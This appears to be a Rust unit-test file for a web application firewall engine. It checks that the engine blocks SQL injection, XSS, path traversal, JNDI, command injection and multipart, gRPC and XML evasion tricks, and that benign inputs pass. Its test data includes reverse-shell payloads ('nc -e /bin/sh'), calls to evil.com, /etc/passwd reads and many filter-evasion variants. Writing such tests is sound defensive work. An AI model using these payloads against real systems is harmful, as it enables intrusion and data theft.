//! The engine's unit tests: rules, exclusions, memo, paths, charsets and stacked queries.

use super::*;

fn engine() -> Engine {
    match Engine::new() {
        Ok(e) => e,
        Err(e) => unreachable_rule(&e),
    }
}

#[allow(clippy::panic)]
fn unreachable_rule(e: &str) -> Engine {
    panic!("a built-in rule does not compile: {e}")
}

/// Pseudo-random bytes for tests (xorshift32 from `state`, which moves on): binary data
/// (uploads' chunks, images, noise) with no text in mind.
pub(crate) fn noise(state: &mut u32, n: usize) -> Vec<u8> {
    (0..n)
        .map(|_| {
            *state ^= *state << 13;
            *state ^= *state >> 17;
            *state ^= *state << 5;
            (*state & 0xff) as u8
        })
        .collect()
}

fn get(uri: &str) -> Report {
    engine().inspect(
        &Input {
            method: "GET",
            uri,
            headers: &[("User-Agent", b"Mozilla/5.0")],
            body: None,
            secret_fields: &[],
        },
        &Settings::default(),
        &[],
        None,
    )
}

/// SQL injection in the path (as CRS reads REQUEST_FILENAME), and paths that only look
/// a little like it left alone.
#[test]
fn sql_injection_in_the_path_is_found() {
    for attack in [
        "/open/1%27%20OR%20%271%27=%271",
        "/open/users/1%20UNION%20SELECT%20password%20FROM%20users",
        "/items/1;%20DROP%20TABLE%20users",
    ] {
        let r = get(attack);
        assert!(
            r.exceeded && r.findings.iter().any(|f| f.category == "sqli"),
            "{attack}: {r:?}"
        );
    }
    for benign in [
        "/blog/2024/it's-a-post",
        "/search/o'brien",
        "/people/O'Brien/orders/17",
        "/files/report-final(1).pdf",
        "/wiki/Don't_Stop_Believin'",
        "/products/select-from-the-range",
        "/stations/union-station/departures",
        "/api/v1/users/123/orders/456",
        "/docs/select%20a%20plan",
        "/tags/c%23/questions",
    ] {
        let r = get(benign);
        assert!(!r.exceeded, "{benign}: {r:?}");
    }
}

#[test]
fn charsets_the_rules_cannot_read_are_refused() {
    for ok in [
        &b"application/json"[..],
        b"application/json; charset=utf-8",
        b"text/plain; Charset=\"UTF-8\"",
        b"application/x-www-form-urlencoded; charset=ISO-8859-1",
        b"multipart/form-data; boundary=x",
    ] {
        assert!(!charset_refused(ok), "{}", String::from_utf8_lossy(ok));
    }
    for bad in [
        &b"application/x-www-form-urlencoded; charset=ibm037"[..],
        b"application/json; charset=utf-16",
        b"text/plain; charset=utf-8; charset=utf-7",
        b"text/plain; charset=utf-7",
    ] {
        assert!(charset_refused(bad), "{}", String::from_utf8_lossy(bad));
    }
}

/// A stacked query is SQL after a semicolon, not any SQL word after one: prose such as
/// "5 o'clock; select from the menu" passes, `1; DROP TABLE users` does not.
#[test]
fn stacked_queries_and_prose_with_semicolons() {
    for prose in [
        "It's 5 o'clock; select from the menu",
        "Tom & Jerry; select or delete",
        "Done; update the docs and execute the plan",
        "Ready; create a new account, then grant access",
    ] {
        let q = percent_encoding::utf8_percent_encode(prose, percent_encoding::NON_ALPHANUMERIC);
        let r = get(&format!("/notes?text={q}"));
        assert!(!r.exceeded, "{prose}: {r:?}");
    }
    for attack in [
        "1; DROP TABLE users",
        "1; select password from users",
        "x'; delete from accounts --",
        "1; exec xp_cmdshell 'dir'",
        "1; shutdown --",
        "1; update users set role='admin'",
        "1; insert into admins values (1)",
    ] {
        let q = percent_encoding::utf8_percent_encode(attack, percent_encoding::NON_ALPHANUMERIC);
        let r = get(&format!("/notes?text={q}"));
        assert!(r.exceeded, "{attack}: {r:?}");
    }
}

#[test]
fn every_rule_compiles_and_ids_are_unique() {
    let e = engine();
    let mut ids: Vec<u32> = e.rules().map(|r| r.id).collect();
    let n = ids.len();
    ids.sort_unstable();
    ids.dedup();
    assert_eq!(ids.len(), n);
    assert!(e.rules().all(|r| (1..=4).contains(&r.paranoia)));
    for level in 1..=4 {
        assert!(e.sets(level).is_ok(), "level {level}");
    }
}

/// A header's verdict comes from the memo the second time, and is the same: the same
/// findings, the same score, the same exclusions applied; another header with the same
/// value is inspected on its own.
#[test]
fn remembered_headers_give_the_same_verdict() {
    let e = engine();
    let ua: &[u8] = b"Mozilla/5.0 <script>alert(1)</script>";
    let inspect = |headers: &[(&str, &[u8])], exclusions: &[Exclusion]| {
        e.inspect(
            &Input {
                method: "GET",
                uri: "/a?q=1",
                headers,
                body: None,
                secret_fields: &[],
            },
            &Settings::default(),
            exclusions,
            Some("r"),
        )
    };
    let summary = |r: &Report| {
        let mut f: Vec<(u32, Vec<String>)> = r
            .findings
            .iter()
            .map(|f| (f.rule, f.locations.clone()))
            .collect();
        f.sort();
        (f, r.score, r.exceeded)
    };
    let first = inspect(&[("User-Agent", ua), ("Accept", b"*/*")], &[]);
    assert!(first.exceeded, "{first:?}");
    assert!(e.memo.len() >= 2, "the headers are remembered");
    let again = inspect(&[("User-Agent", ua), ("Accept", b"*/*")], &[]);
    assert_eq!(summary(&again), summary(&first));
    // Exclusions apply to remembered findings as to fresh ones.
    let all_ua = Exclusion {
        rule: "9*".into(),
        target: Some("REQUEST_HEADERS:User-Agent".into()),
        route: None,
    };
    let excluded = inspect(&[("User-Agent", ua), ("Accept", b"*/*")], &[all_ua]);
    assert!(
        excluded.findings.iter().all(|f| f
            .locations
            .iter()
            .all(|l| l != "REQUEST_HEADERS:User-Agent")),
        "{excluded:?}"
    );
    // The same value in another header: its own place, its own findings.
    let referer = inspect(&[("Referer", ua)], &[]);
    assert!(referer.exceeded);
    assert!(referer.findings.iter().all(|f| {
        f.locations
            .iter()
            .all(|l| l != "REQUEST_HEADERS:User-Agent")
    }));
}

#[test]
fn classic_attacks_are_blocked_at_paranoia_one() {
    for uri in [
        "/search?q=1%27%20OR%20%271%27=%271",
        "/search?q=1+union+select+password+from+users",
        "/p?x=%3Cscript%3Ealert(1)%3C/script%3E",
        "/p?x=%253Csvg%2520onload%253Dalert(1)%253E",
        "/file?name=../../../../etc/passwd",
        "/file?name=..%252f..%252fetc%252fpasswd",
        "/run?host=127.0.0.1;cat%20/etc/passwd",
        "/t?name={{7*7}}",
        "/l?x=${jndi:ldap://evil/a}",
        "/n?user[$ne]=1",
        "/q?q=1;%20DROP%20TABLE%20users",
        // MySQL reads a control character after `--` as white space (black-box pass 7, R3).
        "/q?q=admin%27--%01",
        "/q?q=admin%27--%1f",
    ] {
        let r = get(uri);
        assert!(r.exceeded, "{uri}: {r:?}");
    }
}

#[test]
fn ordinary_values_pass() {
    for uri in [
        "/search?q=O%27Brien",
        "/search?q=select+the+best+option+from+the+list",
        "/search?q=union+station",
        "/a?email=jane%40example.com&next=%2Fhome",
        "/a?t=eyJhbGciOiJFZERTQSJ9.eyJzdWIiOiIxIn0.abc-def_ghi",
        "/a?q=%E6%9D%B1%E4%BA%AC",
        "/a?sort=id&order=desc",
    ] {
        let r = get(uri);
        assert!(!r.exceeded, "{uri}: {r:?}");
    }
}

/// A body as large as the default inspection limit, of ordinary records, is inspected
/// whole and passes; the same body with an attack in its last record is blocked.
#[test]
fn a_large_ordinary_json_body_is_inspected_whole() {
    let e = engine();
    let record = |i: usize, note: &str| {
        format!(r#"{{"id":{i},"name":"Item {i}","tags":["a","b"],"price":{i}.5,"note":"{note}"}}"#)
    };
    let mut records = Vec::new();
    let mut len = 0;
    while len < (128 << 10) - 200 {
        let r = record(records.len(), "gift wrap, please");
        len += r.len() + 1;
        records.push(r);
    }
    let body = format!("[{}]", records.join(","));
    let inspect = |body: &str| {
        e.inspect(
            &Input {
                method: "POST",
                uri: "/items",
                headers: &[("Content-Type", b"application/json")],
                body: Some(body.as_bytes()),
                secret_fields: &[],
            },
            &Settings::default(),
            &[],
            None,
        )
    };
    let r = inspect(&body);
    assert!(!r.exceeded && r.findings.is_empty(), "{r:?}");
    records.push(record(records.len(), "1' OR '1'='1"));
    let r = inspect(&format!("[{}]", records.join(",")));
    assert!(r.exceeded, "{r:?}");
    assert!(r.findings.iter().all(|f| f.rule != 920390), "{r:?}");
}

#[test]
fn exclusions_by_rule_place_and_route() {
    let e = engine();
    let input = Input {
        method: "GET",
        uri: "/s?q=1%27%20OR%20%271%27=%271",
        headers: &[],
        body: None,
        secret_fields: &[],
    };
    let s = Settings::default();
    let all = e.inspect(&input, &s, &[], Some("search"));
    assert!(all.exceeded);
    let ex = Exclusion {
        rule: "942*".into(),
        target: Some("ARGS:q".into()),
        route: Some("search".into()),
    };
    let excluded = e.inspect(&input, &s, std::slice::from_ref(&ex), Some("search"));
    assert!(
        excluded.findings.iter().all(|f| f.category != "sqli"),
        "{excluded:?}"
    );
    let other_route = e.inspect(&input, &s, std::slice::from_ref(&ex), Some("other"));
    assert!(other_route.exceeded);
}

#[test]
fn rules_above_paranoia_report_without_counting() {
    let e = engine();
    let input = Input {
        method: "GET",
        uri: "/s?q=a%27b%22c",
        headers: &[],
        body: None,
        secret_fields: &[],
    };
    let s = Settings {
        paranoia: 1,
        detection_paranoia: 4,
        inbound_threshold: 5,
    };
    let r = e.inspect(&input, &s, &[], None);
    assert!(
        r.findings.iter().any(|f| f.rule == 942432 && !f.counted),
        "{r:?}"
    );
    assert!(
        r.findings
            .iter()
            .filter(|f| !f.counted)
            .all(|f| f.paranoia > 1)
    );
}

fn post(content_type: &str, body: &[u8]) -> Report {
    engine().inspect(
        &Input {
            method: "POST",
            uri: "/pkg.Service/Method",
            headers: &[("Content-Type", content_type.as_bytes())],
            body: Some(body),
            secret_fields: &[],
        },
        &Settings::default(),
        &[],
        None,
    )
}

/// A protobuf string field: tag (field `number`, length-delimited), length, bytes.
fn pb(number: u8, bytes: &[u8]) -> Vec<u8> {
    let len = u8::try_from(bytes.len()).unwrap_or(u8::MAX);
    [&[number << 3 | 2, len][..], bytes].concat()
}

/// gRPC's 5-byte prefix (uncompressed) before a message.
fn grpc_frame(message: &[u8]) -> Vec<u8> {
    let len = u32::try_from(message.len()).unwrap_or(u32::MAX);
    [&[0u8][..], &len.to_be_bytes(), message].concat()
}

/// Protobuf bodies and gRPC messages are read field by field, nested messages too: an
/// attack in a string field is found and named by its place; ordinary strings pass.
#[test]
fn protobuf_and_grpc_strings_are_inspected() {
    let attack = pb(
        1,
        &[pb(2, b"x"), pb(3, b"1' UNION SELECT password FROM users--")].concat(),
    );
    let benign = pb(
        1,
        &[pb(2, b"O'Brien"), pb(3, b"select the union station")].concat(),
    );
    for ct in [
        "application/grpc",
        "application/grpc+proto",
        "application/grpc-web",
    ] {
        let two = [grpc_frame(&benign), grpc_frame(&attack)].concat();
        let r = post(ct, &two);
        assert!(r.exceeded, "{ct}: {r:?}");
        assert!(
            r.findings
                .iter()
                .any(|f| f.category == "sqli" && f.locations.iter().any(|l| l == "ARGS:pb.1.3")),
            "{ct}: {r:?}"
        );
        let r = post(ct, &grpc_frame(&benign));
        assert!(!r.exceeded, "{ct}: {r:?}");
    }
    for ct in ["application/protobuf", "application/x-protobuf"] {
        assert!(post(ct, &attack).exceeded, "{ct}");
        assert!(!post(ct, &benign).exceeded, "{ct}");
    }
    // Binary bytes fields (an upload's 32 KiB chunks, images, blobs) are not text full of
    // invalid characters (black-box pass 6, C1): none of twenty random chunks is refused.
    let mut x: u32 = 7;
    for _ in 0..20 {
        let chunk = noise(&mut x, 32768);
        let message = [&pb(1, b"chunk")[..], &[0x12, 0x80, 0x80, 0x02], &chunk].concat();
        let r = post("application/grpc", &grpc_frame(&message));
        assert!(!r.exceeded, "{r:?}");
    }
    // One control character or invalid byte after a short attack does not make it binary
    // (black-box pass 7, R1).
    for value in [
        &b"admin'--\x00"[..],
        b"' OR '1'='1\x01",
        b"<svg onload=alert(1)>\x7f",
        b"1' OR 1=1--\xff",
        b"\xc0<script>alert(1)</script>",
        // Any number of odd bytes around it (black-box pass 8).
        b"admin'--\x00\x00\x00",
        b"<svg onload=alert(1)>\x00\x00\x00\x00\x00",
    ] {
        assert!(
            post("application/grpc", &grpc_frame(&pb(1, value))).exceeded,
            "{value:?}"
        );
        assert!(
            post("application/x-protobuf", &pb(1, value)).exceeded,
            "{value:?}"
        );
    }
    // A protobuf body that is not the wire format (another codec): its bytes as text.
    assert!(
        post(
            "application/x-protobuf",
            b"hello 1' UNION SELECT password FROM users--"
        )
        .exceeded
    );
    // Not the wire format, or cut short at the inspection limit: read as text, so the
    // attack is still seen.
    let r = post(
        "application/grpc",
        &grpc_frame(b"\xff1' UNION SELECT password FROM users--"),
    );
    assert!(r.exceeded, "{r:?}");
    let r = post(
        "application/grpc",
        b"\x00\x00\x00\x01\x00\x0a\x401' UNION SELECT password FROM users--",
    );
    assert!(r.exceeded, "{r:?}");
}

/// `multipart/mixed` and `multipart/related` parts are read like form-data's, a part that
/// is itself multipart is read in turn, and a JSON part's strings are arguments.
#[test]
fn every_multipart_kind_and_nested_parts_are_inspected() {
    let part = |head: &str, body: &str| format!("--b1\r\n{head}\r\n\r\n{body}\r\n");
    let sqli = "1' UNION SELECT password FROM users--";
    let mixed = format!(
        "{}{}--b1--\r\n",
        part("Content-Type: text/plain", "hello"),
        part("Content-Type: text/plain", sqli)
    );
    for ct in [
        "multipart/mixed; boundary=b1",
        "multipart/related; boundary=b1",
    ] {
        let r = post(ct, mixed.as_bytes());
        assert!(r.exceeded, "{ct}: {r:?}");
    }
    let inner = format!("--b2\r\nContent-Type: text/plain\r\n\r\n{sqli}\r\n--b2--\r\n");
    let nested = format!(
        "{}{}--b1--\r\n",
        part("Content-Disposition: form-data; name=\"a\"", "fine"),
        part(
            "Content-Disposition: form-data; name=\"bundle\"\r\nContent-Type: multipart/mixed; boundary=b2",
            &inner
        )
    );
    let r = post("multipart/form-data; boundary=b1", nested.as_bytes());
    assert!(r.exceeded, "{r:?}");
    // A form field declared multipart whose inner part is a file: form parsers do not go
    // into it and hand the application the whole text (black-box pass 6, N1).
    let inner_file = "--CC\r\nContent-Disposition: attachment; filename=\"a.txt\"\r\nContent-Type: text/plain\r\n\r\n<script>alert(1)</script>\r\n--CC--\r\n";
    let hidden = format!(
        "{}--b1--\r\n",
        part(
            "Content-Disposition: form-data; name=\"q\"\r\nContent-Type: multipart/mixed; boundary=CC",
            inner_file
        )
    );
    let r = post("multipart/form-data; boundary=b1", hidden.as_bytes());
    assert!(r.exceeded, "{r:?}");
    let json = format!(
        "{}--b1--\r\n",
        part(
            "Content-Type: application/json",
            r#"{"q": "<svg onload=alert(1)>", "n": "O'Brien"}"#
        )
    );
    assert!(post("multipart/related; boundary=b1", json.as_bytes()).exceeded);
    let benign = format!(
        "{}{}--b1--\r\n",
        part(
            "Content-Type: text/plain",
            "Please select the union station."
        ),
        part("Content-Type: application/json", r#"{"name": "O'Brien"}"#)
    );
    let r = post("multipart/mixed; boundary=b1", benign.as_bytes());
    assert!(!r.exceeded, "{r:?}");
}

/// A line break ends a shell command as `;` does (the ping-form injection), `sleep` probes
/// and `nc HOST PORT` are command injection; Markdown code fences and prose over several
/// lines are not.
#[test]
fn line_breaks_sleep_and_netcat_are_command_separators() {
    for attack in [
        "/ping?host=127.0.0.1%0aid",
        "/ping?host=127.0.0.1%0d%0aid",
        "/a?c=x%0anc%20-e%20/bin/sh%201.2.3.4%2080",
        "/a?c=x%0a%09bash%20-i",
        "/a?c=x%3Bsleep%205",
        "/a?c=x%7Csleep%205",
        "/a?c=x%20%26%26%20sleep%205",
        "/a?c=x%3Bsleep%24%7BIFS%7D5",
        "/a?c=x%20%7C%20nc%20evil%2080",
        "/a?c=x%0Aenv%20id",
        "/a?c=x%0Atimeout%205%20id",
        "/a?c=x%0Abusybox%20sh",
        "/a?c=x%0Abusybox%20nc%201.2.3.4%2080%20-e%20sh",
        "/a?c=x%0Anc.openbsd%201.2.3.4%2080",
        "/a?c=x%0Adig%20evil.com",
        "/a?c=x%0Ahost%20evil.com",
        "/a?c=x%0Aping6%20-c%205%20::1",
        "/a?c=x%0Aps%20aux",
        "/a?c=x%0Aprintenv",
        "/a?c=x%0Axargs%20id",
        "/a?c=x%0Asu%20root",
        // Black-box pass 7: wrappers with options, and more commands.
        "/a?c=x%3Bnice%20-n%205%20sh",
        "/a?c=x%3Beval%20id",
        "/a?c=x%3Bsetsid%20id",
        "/a?c=x%3Bchroot%20/%20id",
        "/a?c=x%3Bdoas%20id",
        "/a?c=x%3Bstrace%20id",
        "/a?c=x%3Bionice%20-c%203%20id",
        "/a?c=x%3Btaskset%201%20id",
        "/a?c=x%3Bflock%20/tmp%20id",
        "/a?c=x%3Bscript%20-c%20id",
        "/a?c=x%3Btoybox%20id",
        "/a?c=x%0Adrill%20evil.com",
        "/a?c=x%0Agetent%20hosts%20evil.com",
        "/a?c=x%3Bping6%20evil.com",
        // Black-box pass 8: options after a wrapper, and more wrappers.
        "/a?c=x%3Bnice%20-n5%20sh",
        "/a?c=x%3Bnice%20--adjustment=5%20id",
        "/a?c=x%3Btaskset%20-c%200%20id",
        "/a?c=x%3Bsetsid%20-f%20id",
        "/a?c=x%3Bcpulimit%20-l%205%20id",
        "/a?c=x%3Bunshare%20id",
        "/a?c=x%3Bnsenter%20-t%201%20id",
        "/a?c=x%3Bpkexec%20id",
        "/a?c=x%3Bvalgrind%20id",
        "/a?c=x%3Brlwrap%20id",
        "/a?c=x%3Bbuiltin%20exec%20id",
        // Black-box pass 9: a wrapper's variables and users, and more commands.
        "/a?c=x%3Benv%20A=b%20id",
        "/a?c=x%3Benv%20-i%20PATH=/bin%20id",
        "/a?c=x%3Bdoas%20-u%20root%20id",
        "/a?c=x%3Bsudo%20-u%20root%20id",
        "/a?c=x%3Bpkexec%20--user%20root%20id",
        "/a?c=x%3Bgdb%20-ex%20%27!id%27",
        "/a?c=x%3Bsshpass%20-p%20pw%20ssh%20h",
        "/a?c=x%3Bexpect%20-c%20%27spawn%20x%27",
        "/a?c=x%3Bfish%20-c%20id",
        "/a?c=x%3Bfping%20evil.com",
        "/a?c=x%3Bhping3%20evil.com",
        "/a?c=x%3Bopenssl%20s_client%20-quiet%20evil.com:443",
        // Black-box pass 10: assignments before a command, wrappers' long options, more wrappers.
        "/a?c=x%3BA=b%20id",
        "/a?c=x%3BPATH=%2Ftmp%20id",
        "/a?c=x%3BIFS=%2C%20id",
        "/a?c=x%3BA=b%20B=c%20sh%20-c%20id",
        "/a?c=x%3BA=b%20curl%20evil.com",
        "/a?c=x%3BA=b%20nc%20evil.com%201",
        "/a?c=x%3Benv%20--%20whoami",
        "/a?c=x%3Benv%20--ignore-environment%20id",
        "/a?c=x%3Benv%20--chdir=%2F%20id",
        "/a?c=x%3Benv%20--unset=X%20whoami",
        "/a?c=x%3Benv%20A=%27b%20c%27%20id",
        "/a?c=x%3Benv%20A=%22b%20c%22%20id",
        "/a?c=x%3Bdoas%20-C%20%2Fetc%2Fdoas.conf%20id",
        "/a?c=x%3Bdoas%20-s",
        "/a?c=x%3Bexpect%20-f%20x.exp",
        "/a?c=x%3Bexpect%20x.exp",
        "/a?c=x%3Bexpect%20-d%20-c%20%27spawn%20x%27",
        "/a?c=x%3Bexpect%20-nc%20%27spawn%20id%27",
        "/a?c=x%3Bexpect%20-i",
        "/a?c=x%3Bfish%20--command=id",
        "/a?c=x%3Bfish%20-c%22id%22",
        "/a?c=x%3Bfish%20-N%20-c%20id",
        "/a?c=x%3Bfish%20-ic%20id",
        "/a?c=x%3Bfish%20--no-config%20-c%20id",
        "/a?c=x%3Bfish%20id.fish",
        "/a?c=x%3Bfping6%20evil.com",
        "/a?c=x%3Bhping%20evil.com",
        "/a?c=x%3Bhping2%20evil.com",
        "/a?c=x%3Bopenssl%20enc%20-d%20-in%20x",
        "/a?c=x%3Bopenssl%20req%20-x509",
        "/a?c=x%3Bnsenter%20--target=1%20--mount%20id",
        "/a?c=x%3Btimeout%20--signal=9%205%20id",
        "/a?c=x%3Bstdbuf%20--output=0%20id",
        "/a?c=x%3Btaskset%20--cpu-list%200%20id",
        "/a?c=x%3Bionice%20--class%203%20id",
        "/a?c=x%3Bchroot%20--userspec=0%3A0%20%2F%20id",
        "/a?c=x%3Bunshare%20--user%20--map-root-user%20id",
        "/a?c=x%3Bsetsid%20--fork%20id",
        "/a?c=x%3Bscript%20-qc%20id%20%2Fdev%2Fnull",
        "/a?c=x%3Bscript%20--command%20id",
        "/a?c=x%3Bsg%20wheel%20-c%20id",
        "/a?c=x%3Bsetpriv%20--reuid%200%20id",
        "/a?c=x%3Bcapsh%20--%20-c%20id",
        "/a?c=x%3Bfirejail%20id",
        "/a?c=x%3Bproot%20id",
        "/a?c=x%3Bsystemd-run%20id",
        "/a?c=x%3Bchrt%201%20id",
        "/a?c=x%3Bnumactl%20-C%200%20id",
        "/a?c=x%3Bfaketime%20%27x%27%20id",
        "/a?c=x%3Btorsocks%20curl%20evil.com",
        "/a?c=x%3Bproxychains%20curl%20evil.com",
        "/a?c=x%3Bcatchsegv%20id",
        "/a?c=x%3Bdbus-launch%20id",
        "/a?c=x%3Bcommand%20-p%20id",
    ] {
        let r = get(attack);
        assert!(
            r.exceeded && r.findings.iter().any(|f| f.category == "rce"),
            "{attack}: {r:?}"
        );
    }
    for benign in [
        "/a?notes=%23+Release+notes%0A%0A%60%60%60bash%0Acargo+build+--release%0A%60%60%60",
        "/a?text=Dear+team%2C%0Aid+like+to+know+more.%0AThanks",
        "/a?text=Shopping+list%3A%0Acat+food%0Atea",
        "/a?text=Let+it+sleep+for+a+while",
        "/a?text=host%3A+example.com%0Aport%3A+8080",
        "/a?text=Ask+the+host+about+the+time.",
        "/a?text=Shopping+list%3A%0Afish+-+2+kg%0Aexpect+delays",
        "/a?text=Run+it+with+env+vars+set%3A+A%3Db",
        "/a?text=Use+sudo+-u+postgres+psql+to+connect",
        "/a?text=I+had+fish%3B+expect+more+tomorrow",
        "/a?text=a%3D1%3B+b%3D2%3B+total%3D3",
        "/a?text=Note%3A+x%3D5+id+est+the+fifth",
        "/a?text=The+watch%3B+timeout+5+minutes+then+dinner",
        "/a?text=menu%3A+fish%2C+chips%3B+time+for+tea",
    ] {
        let r = get(benign);
        assert!(!r.exceeded, "{benign}: {r:?}");
    }
}

/// Multipart bodies that parsers read differently are refused, not guessed at (black-box
/// pass 5, F1: each got an attack past the WAF to a Flask upstream): two boundary
/// parameters, the RFC 2231 form, a quoted boundary holding `;` (read whole), a part with
/// two Content-Disposition headers, a filename without a value or with space before `=`,
/// an empty filename*; and a part with an empty filename is inspected as a field.
#[test]
fn multipart_that_parsers_read_differently_is_refused() {
    let xss = "<script>alert(1)</script>";
    let field = |disposition: &str, boundary: &str| {
        format!("--{boundary}\r\n{disposition}\r\n\r\n{xss}\r\n--{boundary}--\r\n")
    };
    let plain = field("Content-Disposition: form-data; name=\"q\"", "BB");
    for ct in [
        "multipart/form-data; boundary=AA; boundary=BB",
        "multipart/form-data; boundary=AA; BOUNDARY=BB",
        "multipart/form-data; boundary=AA; charset=utf-8; boundary=BB",
        "multipart/form-data; boundary=AA; boundary*=UTF-8''BB",
        "multipart/form-data; boundary =BB",
    ] {
        let two = format!(
            "--AA\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\nok\r\n--AA--\r\n{plain}"
        );
        let r = post(ct, two.as_bytes());
        assert!(r.exceeded, "{ct}: {r:?}");
    }
    // A quoted boundary is read whole, `;` and all: the part is found and inspected.
    let quoted = field(
        "Content-Disposition: form-data; name=\"q\"",
        "AA;boundary=BB",
    );
    let r = post(
        "multipart/form-data; boundary=\"AA;boundary=BB\"",
        quoted.as_bytes(),
    );
    assert!(r.findings.iter().any(|f| f.category == "xss"), "{r:?}");
    for disposition in [
        "Content-Disposition: form-data; name=\"q\"; filename",
        "Content-Disposition: form-data; name=\"q\"; filename =\"a\"",
        "Content-Disposition: form-data; name=\"q\"; filename*=",
        "Content-Disposition: form-data; name=\"q\"; filename=",
        "Content-Disposition: form-data; name=\"q\"; filename=\"\"",
        "Content-Disposition: form-data; name=\"q\"\r\nContent-Disposition: form-data; name=\"q\"; filename=\"a.txt\"",
        "Content-Disposition: form-data; name=\"q\"; name=\"r\"",
    ] {
        let r = post(
            "multipart/form-data; boundary=BB",
            field(disposition, "BB").as_bytes(),
        );
        assert!(r.exceeded, "{disposition}: {r:?}");
    }
    // An ordinary upload passes (its content is a file's, not inspected as a field).
    let upload = field(
        "Content-Disposition: form-data; name=\"f\"; filename=\"notes.txt\"\r\nContent-Type: text/plain",
        "BB",
    );
    assert!(!post("multipart/form-data; boundary=BB", upload.as_bytes()).exceeded);
    let ok = "--BB\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\nO'Brien\r\n--BB--\r\n";
    assert!(!post("multipart/form-data; boundary=\"BB\"", ok.as_bytes()).exceeded);
}

/// Multipart part headers CRS refuses at paranoia 1 (black-box pass 10, B10-5: an attack in
/// a base64, quoted-printable or UTF-7 part passed): a transfer encoding that changes the
/// content (922120; `binary`, `7bit` and `8bit` do not), a part's
/// charset outside the ones the rules read (922110), a `_charset_` field naming one
/// (922100); a part in UTF-8 or ISO-8859-1 and a `_charset_` of UTF-8 pass.
#[test]
fn multipart_part_encodings_are_refused() {
    let body = |headers: &str, value: &str| {
        format!(
            "--BB\r\nContent-Disposition: form-data; name=\"a\"\r\n{headers}\r\n{value}\r\n--BB--\r\n"
        )
    };
    let ct = "multipart/form-data; boundary=BB";
    for (headers, value, id) in [
        (
            "Content-Transfer-Encoding: base64\r\n",
            "YWRtaW4nIE9SICcxJz0nMQ==",
            922120,
        ),
        (
            "Content-Transfer-Encoding: quoted-printable\r\n",
            "admin=27 OR =271=27=3D=271",
            922120,
        ),
        ("Content-Transfer-Encoding: x-uuencode\r\n", "x", 922120),
        (
            "Content-Type: text/plain; charset=utf-7\r\n",
            "admin+ACc- OR +ACc-1",
            922110,
        ),
        ("Content-Type: text/plain; charset=ibm037\r\n", "x", 922110),
    ] {
        let r = post(ct, body(headers, value).as_bytes());
        assert!(
            r.exceeded && r.findings.iter().any(|f| f.rule == id),
            "{headers}: {r:?}"
        );
    }
    let charset = |name: &str| {
        format!(
            "--BB\r\nContent-Disposition: form-data; name=\"_charset_\"\r\n\r\n{name}\r\n--BB\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\nhello\r\n--BB--\r\n"
        )
    };
    let r = post(ct, charset("utf-7").as_bytes());
    assert!(r.findings.iter().any(|f| f.rule == 922100), "{r:?}");
    for ok in [
        body("Content-Type: text/plain; charset=UTF-8\r\n", "O'Brien"),
        body("Content-Type: text/plain; charset=iso-8859-1\r\n", "hello"),
        charset("UTF-8"),
        // Encodings that leave the content as it is (Apache HttpClient's file parts).
        body("Content-Transfer-Encoding: binary\r\n", "hello"),
        body("Content-Transfer-Encoding: 8BIT\r\n", "hello"),
    ] {
        assert!(!post(ct, ok.as_bytes()).exceeded, "{ok}");
    }
}

/// XML text is read as parsers read it (black-box pass 5, F7): CDATA sections are text,
/// a processing instruction or comment inside a word does not split it, and a character
/// reference is what it stands for.
#[test]
fn xml_cdata_and_processing_instructions_hide_nothing() {
    for doc in [
        "<a><q><![CDATA[' OR 1=1--]]></q></a>",
        "<a><q><![CDATA[<script>alert(1)</script>]]></q></a>",
        "<a><q><![CDATA[<scr]]><![CDATA[ipt>alert(1)</script>]]></q></a>",
        "<a><q>' UNION SE<?pi x?>LECT password FROM users--</q></a>",
        "<a><q>' UNION SE<!-- x -->LECT password FROM users--</q></a>",
        "<a><q>x&#10;id</q></a>",
        "<a><q><![CDATA[../../../etc/passwd]]></q></a>",
    ] {
        for ct in ["application/xml", "text/xml", "application/soap+xml"] {
            let r = post(ct, doc.as_bytes());
            assert!(r.exceeded, "{ct} {doc}: {r:?}");
        }
    }
    let ok = "<order><note><![CDATA[Please select the union station & call O'Brien.]]></note><qty>2</qty></order>";
    let r = post("application/xml", ok.as_bytes());
    assert!(!r.exceeded, "{r:?}");
}

/// Methods outside an API's (TRACE, WebDAV's, cache purges, invented ones) are refused
/// (911100, an allowlist as CRS's); the methods of an API pass.
#[test]
fn methods_no_api_takes_are_refused() {
    let with = |method: &str| {
        engine().inspect(
            &Input {
                method,
                uri: "/items/1",
                headers: &[("User-Agent", b"Mozilla/5.0")],
                body: None,
                secret_fields: &[],
            },
            &Settings::default(),
            &[],
            None,
        )
    };
    for m in [
        "TRACE", "track", "PROPFIND", "MKCOL", "MOVE", "PURGE", "DEBUG", "FOO", "JNDI",
        // With case, as CRS's `@within` (black-box pass 7, D5).
        "get", "Post", "delete",
    ] {
        assert!(with(m).exceeded, "{m}");
    }
    for m in [
        "GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "QUERY",
    ] {
        assert!(!with(m).exceeded, "{m}");
    }
}

/// DLP reads past invisible characters: a card or key split by zero-width spaces, joiners
/// or soft hyphens is found, and masking covers it where it was written.
#[test]
fn dlp_reads_past_invisible_characters() {
    let dlp = crate::dlp::Dlp::builtin(&[]).unwrap_or_else(|e| panic!("{e}"));
    let text = "pay with 4111\u{200B}1111\u{200B}1111\u{AD}1111 today";
    let hits = dlp.scan(text, &[]);
    assert!(hits.iter().any(|h| h.detector == "card"), "{hits:?}");
    let masked = crate::dlp::mask(text, &hits);
    assert!(!masked.contains("4111\u{200B}1111"), "{masked}");
    assert!(
        masked.starts_with("pay with ") && masked.ends_with(" today"),
        "{masked}"
    );
}

/// At paranoia 2, a client's own name in the User-Agent (curl/8, Wget/1.21, git/2.43) is
/// not a command (black-box pass 7, D1: every curl client was refused), as in CRS's 932239;
/// a command after a separator there still is.
#[test]
fn client_names_in_the_user_agent_are_not_commands() {
    let settings = Settings {
        paranoia: 2,
        detection_paranoia: 2,
        inbound_threshold: 5,
    };
    let ua = |agent: &str| {
        engine().inspect(
            &Input {
                method: "GET",
                uri: "/a",
                headers: &[("User-Agent", agent.as_bytes())],
                body: None,
                secret_fields: &[],
            },
            &settings,
            &[],
            None,
        )
    };
    for agent in [
        "curl/8.5.0",
        "Wget/1.21.4",
        "git/2.43.0",
        "npm/10.2.4 node/v20.11.0 linux x64",
        "pip/24.0",
        "Java/17.0.9",
        "docker/24.0.7 go/go1.21.5",
